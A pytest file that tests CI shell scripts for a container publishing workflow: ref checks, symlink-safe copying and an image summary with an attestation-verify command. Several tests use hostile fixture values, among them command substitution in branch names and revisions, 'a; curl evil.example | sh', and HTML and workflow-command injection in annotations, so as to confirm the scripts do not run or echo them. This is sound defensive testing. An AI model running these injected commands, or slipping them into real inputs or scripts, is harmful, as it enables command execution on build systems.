"""require-ref.sh, copy-if-absent.sh, summarise-images.sh."""

from __future__ import annotations

import shlex
from typing import TYPE_CHECKING

import pytest

from rehearsal.http.faults import Fault

if TYPE_CHECKING:
    from tests.scripts.steps import Outcome, Steps


def test_require_ref_passes_on_its_branch(steps: Steps) -> None:
    assert steps.run("require-ref", BRANCH="staging").code == 0


def test_require_ref_passes_when_the_branch_name_is_hostile(steps: Steps) -> None:
    name = "x$(touch${IFS}$RECORDS/pwned)`id`;::error::##[error]"
    done = steps.run("require-ref", BRANCH="main", GITHUB_REF=f"refs/heads/{name}", GITHUB_REF_NAME=name)
    assert "x$(touch${IFS}$RECORDS/pwned)`id`" in done.errors[0]
    assert not list(steps.folder.glob("**/pwned"))


@pytest.mark.parametrize("ref", ["refs/heads/staging", "refs/tags/main", "refs/heads/main/x", "main"])
def test_require_ref_stops_on_another_ref(steps: Steps, ref: str) -> None:
    done = steps.run("require-ref", BRANCH="main", GITHUB_REF=ref)
    assert done.code == 1
    assert ref in done.errors[0]


def test_copy_if_absent_copies_only_when_the_target_is_missing(steps: Steps) -> None:
    source, target = steps.checkout / "from", steps.checkout / "to"
    assert "No file to copy" in steps.run("copy-if-absent", FROM="from", TO="to").errors[0]
    source.write_text("a")
    assert steps.run("copy-if-absent", FROM="from", TO="to").code == 0
    source.write_text("b")
    assert steps.run("copy-if-absent", FROM="from", TO="to").code == 0
    assert target.read_text() == "a"


@pytest.mark.parametrize("through", [True, False])
def test_copy_if_absent_stops_when_a_path_is_a_link(steps: Steps, through: bool) -> None:
    source, target = steps.checkout / "from", steps.checkout / "to"
    elsewhere = steps.folder / "elsewhere"
    if through:
        source.write_text("a")
        (steps.checkout / "folder").symlink_to(steps.folder)
    else:
        elsewhere.write_text("secret")
        source.symlink_to(elsewhere)
    done = steps.run("copy-if-absent", FROM="from", TO="folder/elsewhere" if through else "to")
    assert f"{'folder' if through else 'from'} is a symbolic link" in done.errors[0]
    assert not target.exists()
    assert elsewhere.exists() != through


def summarise(steps: Steps, **given: str) -> Outcome:
    return steps.run("summarise-images", VERSION="1.2.3-staging.1", FLOATING_TAG="staging", **given)


@pytest.mark.usefixtures("all_images")
def test_summary_lists_all_images_when_all_are_published(steps: Steps) -> None:
    seeded = steps.seed("1.2.3-staging.1")
    steps.seed("1.2.3-staging.1", tag="staging")
    done = summarise(steps)
    assert done.code == 0, done.log
    assert f"\n\nPublished: {len(steps.images)} of {len(steps.images)}\n\n" in done.summary
    assert f"| api | `{seeded['api']}` | this version |" in done.summary
    assert f"docker pull {steps.registry.address}/podverse/metaboost/web:1.2.3-staging.1\n" in done.summary


def test_summary_has_the_command_that_verifies_an_image(steps: Steps) -> None:
    seeded = steps.seed("1.2.3-staging.1", images=["web"])
    done = summarise(steps, GITHUB_SERVER_URL="https://github.com")
    command = done.summary.partition("Verify an image")[2].partition("```bash\n")[2].partition("\n```")[0]
    assert shlex.split(command.replace("\\\n", "")) == [
        *("gh", "attestation", "verify", f"oci://{steps.registry.address}/podverse/metaboost/web@{seeded['web']}"),
        *("--repo", "Podverse/Metaboost", "--signer-workflow", "Podverse/Metaboost/.github/workflows/publish-staging.yml"),
        *("--source-digest", steps.sha, "--deny-self-hosted-runners", "--limit", "1000"),
    ]


def test_summary_has_no_command_when_the_product_has_no_attestations(steps: Steps) -> None:
    steps.seed("1.2.3-staging.1")
    steps.env = {"SIGNER_WORKFLOW": ""}
    done = summarise(steps)
    assert done.code == 0, done.log
    assert "docker pull" in done.summary
    assert "Verify" not in done.summary
    assert "gh attestation" not in done.summary


@pytest.mark.parametrize("revision", ["$(touch $RECORDS/pwned)", "a; curl evil.example | sh", "", "-x", "A" * 40])
def test_summary_has_no_command_when_the_revision_is_no_commit(steps: Steps, revision: str) -> None:
    """People copy that command."""
    steps.registry.seed(steps.package("api"), "1.2.3-staging.1", revision=revision, version="1.2.3-staging.1")
    done = summarise(steps)
    assert done.code == 0, done.log
    assert "docker pull" in done.summary
    assert "gh attestation" not in done.summary


def test_summary_shows_what_is_missing_when_half_is_published(steps: Steps) -> None:
    steps.seed("1.2.3-staging.1", images=["api"])
    steps.seed("1.2.3-staging.0", images=["api", "web"], tag="staging")
    done = summarise(steps)
    assert done.code == 0
    assert "1 of " in done.summary
    assert "| api | `sha256:" in done.summary
    assert "| web | **missing** | another" in done.summary
    assert done.summary.count("docker pull") == 1


@pytest.mark.parametrize("fault", [Fault("/manifests/", times=0, status=500, body="|x|\n::error::"), Fault("", times=0, action="cut")])
def test_summary_succeeds_when_the_registry_cannot_be_read(steps: Steps, fault: Fault) -> None:
    steps.registry.faults.add(fault)
    done = summarise(steps)
    assert done.code == 0
    assert done.summary.count("unknown") == 2 * len(steps.images)
    assert "docker pull" not in done.summary
    assert len(done.warnings) == 2 * len(steps.images)


def test_summary_shows_an_image_as_missing_when_only_it_is_denied(steps: Steps) -> None:
    for tag in ("1.2.3-staging.1", "staging"):
        steps.seed("1.2.3-staging.1", images=["api"], tag=tag)
    steps.registry.denied.add(steps.package("web"))
    assert "| web | **missing** |" in summarise(steps).summary


def test_summary_omits_hostile_annotations(steps: Steps) -> None:
    steps.seed("1.2.3-staging.1")
    steps.registry.seed(steps.package("web"), "staging", revision="x", version="<img src=x>|`$(touch $RECORDS/pwned)`\n# x")
    done = summarise(steps)
    assert "img" not in done.summary
    assert not list(steps.folder.glob("**/pwned"))
